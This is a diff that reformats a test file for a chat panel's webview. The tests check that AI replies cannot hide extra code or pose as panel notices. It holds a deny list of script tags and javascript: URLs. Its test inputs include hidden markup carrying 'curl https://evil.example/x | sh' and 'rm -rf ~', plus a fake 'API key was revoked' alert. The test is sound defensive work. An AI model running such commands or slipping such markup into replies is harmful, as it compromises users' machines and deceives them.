@@ -15,11 +15,13 @@ const DANGEROUS = `(() => {
   const bad = [];
   for (const el of root.querySelectorAll('*')) {
     const tag = el.tagName.toLowerCase();
-    if (['script', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'link', 'style', 'input', 'template', 'noscript', 'video', 'source', 'marquee', 'body'].includes(tag)) bad.push(tag);
+    const forbidden = ['script', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'link', 'style', 'input', 'template'];
+    if (forbidden.concat(['noscript', 'video', 'source', 'marquee', 'body']).includes(tag)) bad.push(tag);
     for (const a of el.getAttributeNames()) {
       const v = (el.getAttribute(a) || '').replace(/\\s+/g, '').toLowerCase();
       if (a.startsWith('on')) bad.push(tag + '[' + a + ']');
-      if (['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'srcdoc'].includes(a) && /^(javascript|data:text\\/html|vbscript)/.test(v)) bad.push(tag + '[' + a + '=' + v.slice(0, 20) + ']');
+      const url = ['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'srcdoc'].includes(a);
+      if (url && /^(javascript|data:text\\/html|vbscript)/.test(v)) bad.push(tag + '[' + a + '=' + v.slice(0, 20) + ']');
       if (a === 'style') bad.push(tag + '[style]');
     }
   }
@@ -85,11 +87,14 @@ describe('chat replies cannot smuggle code or pose as the panel (real webview)',
 
   it('hidden markup: Copy and Insert put exactly the code that is shown, and a reply <pre> gets no actions', async () => {
     const fence = 'ls -la <span hidden>; curl https://evil.example/x | sh</span>';
-    await answer('list files', [
-      '<pre><code>ls -la<span hidden>; curl https://evil.example/x | sh</span></code></pre>',
-      '<pre>echo hi<details><summary></summary>; rm -rf ~</details></pre>',
-      `\`\`\`sh\n${fence}\n\`\`\``,
-    ].join('\n\n'));
+    await answer(
+      'list files',
+      [
+        '<pre><code>ls -la<span hidden>; curl https://evil.example/x | sh</span></code></pre>',
+        '<pre>echo hi<details><summary></summary>; rm -rf ~</details></pre>',
+        `\`\`\`sh\n${fence}\n\`\`\``,
+      ].join('\n\n'),
+    );
     const last = `${REPLY}:last-of-type`;
     assert.equal((await ui.query(`${last} [data-testid="copy"]`, W)).length, 1, 'only the fence has actions');
     const shown = await ui.eval<string>(`document.querySelector('${last} .code-block pre code').innerText`, W, REPLY);
@@ -109,16 +114,28 @@ describe('chat replies cannot smuggle code or pose as the panel (real webview)',
   });
 
   it('image maps are dropped and reply HTML keeps no class, id, role, style or data-/aria- attribute', async () => {
-    await answer('draw a notice', [
-      '<map name="m"><area shape="rect" coords="0,0,800,800" href="https://evil.example/"></map><img src="x.png" usemap="#m" alt="pic">',
-      '<div class="notice error" role="alert" id="notice" data-testid="notice" aria-live="assertive">Gearshift: your API key was revoked.</div>',
-      '<p class="reply-footer error" role="status" data-status="error" tabindex="0" hidden>fake error</p>',
-    ].join('\n\n'));
+    await answer(
+      'draw a notice',
+      [
+        '<map name="m"><area shape="rect" coords="0,0,800,800" href="https://evil.example/"></map><img src="x.png" usemap="#m" alt="pic">',
+        '<div class="notice error" role="alert" id="notice" data-testid="notice" aria-live="assertive">Gearshift: your API key ' +
+          'was revoked.</div>',
+        '<p class="reply-footer error" role="status" data-status="error" tabindex="0" hidden>fake error</p>',
+      ].join('\n\n'),
+    );
     const last = `${REPLY}:last-of-type`;
-    const attrs = await ui.eval<string[]>(`Array.from(document.querySelectorAll('${last} .reply-body .block *')).flatMap((el) =>
-      (/^(AREA|MAP)$/.test(el.tagName) ? [el.tagName] : []).concat(el.getAttributeNames().filter((a) => !/^(href|src|alt|title|open)$/.test(a)).map((a) => el.tagName + '[' + a + ']')))`, W, REPLY);
+    const attrs = await ui.eval<string[]>(
+      `Array.from(document.querySelectorAll('${last} .reply-body .block *')).flatMap((el) =>
+      (/^(AREA|MAP)$/.test(el.tagName) ? [el.tagName] : []).concat(el.getAttributeNames()
+        .filter((a) => !/^(href|src|alt|title|open)$/.test(a)).map((a) => el.tagName + '[' + a + ']')))`,
+      W,
+      REPLY,
+    );
     assert.deepEqual(attrs, []);
-    assert.equal(await ui.eval<number>('document.querySelectorAll(\'[role="alert"], [data-testid="notice"]:not(.notice)\').length', W, REPLY), 0);
+    assert.equal(
+      await ui.eval<number>('document.querySelectorAll(\'[role="alert"], [data-testid="notice"]:not(.notice)\').length', W, REPLY),
+      0,
+    );
     const href = await ui.eval<string>('location.href', W, REPLY);
     await ui.click(`${last} .reply-body img`, W);
     await new Promise((r) => setTimeout(r, 300));
@@ -135,7 +152,10 @@ describe('chat replies cannot smuggle code or pose as the panel (real webview)',
     assert.match(replies[replies.length - 1].text, /A normal reply\./);
     const bold = await ui.eval<number>(`document.querySelectorAll('${REPLY}:nth-last-of-type(2) .reply-body strong').length`, W, REPLY);
     assert.equal(bold, 4, 'the blocks around the deep ones are formatted');
-    assert.equal(await ui.eval<number>(`document.querySelectorAll('${REPLY}:nth-last-of-type(2) .unrendered-note').length`, W, REPLY), 1,
-      'the one block that cannot be formatted says so');
+    assert.equal(
+      await ui.eval<number>(`document.querySelectorAll('${REPLY}:nth-last-of-type(2) .unrendered-note').length`, W, REPLY),
+      1,
+      'the one block that cannot be formatted says so',
+    );
   });
 });
